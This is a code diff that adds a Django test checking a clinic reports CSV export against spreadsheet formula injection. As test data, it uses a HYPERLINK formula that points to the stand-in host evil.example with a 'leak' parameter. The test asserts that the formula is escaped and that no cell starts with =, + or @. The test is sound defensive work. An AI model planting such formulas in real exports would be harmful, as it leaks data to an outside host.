@@ -132,3 +132,18 @@ def test_query_count_does_not_grow_with_the_data(client_as, admin, week, django_
     with django_assert_max_num_queries(BASE_QUERIES + REPORT_QUERIES["attendance"]):
         response = client.get(reverse("reports:attendance"), WEEK_QUERY)
     assert "Follow-up" in response.content.decode() or extra == 0
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak","Open")'
+
+
+def test_csv_formula_injection_a_name_typed_as_a_formula_is_text_in_a_report_csv(client_as, admin, week):
+    # Reports carry no patient names; the free text they do carry (type, site and user names) is
+    # written through the same neutralising writer as every other export.
+    type(week.a1.appointment_type).objects.filter(pk=week.a1.appointment_type_id).update(name=FORMULA)
+    response = client_as(admin).get(
+        reverse("reports:attendance"), {**WEEK_QUERY, "format": "csv", "table": "attendance-type"}
+    )
+    parsed = list(csv.reader(io.StringIO(response.content.decode())))
+    assert "'" + FORMULA in [row[0] for row in parsed]
+    assert not [cell for row in parsed for cell in row if cell[:1] in ("=", "+", "@")]
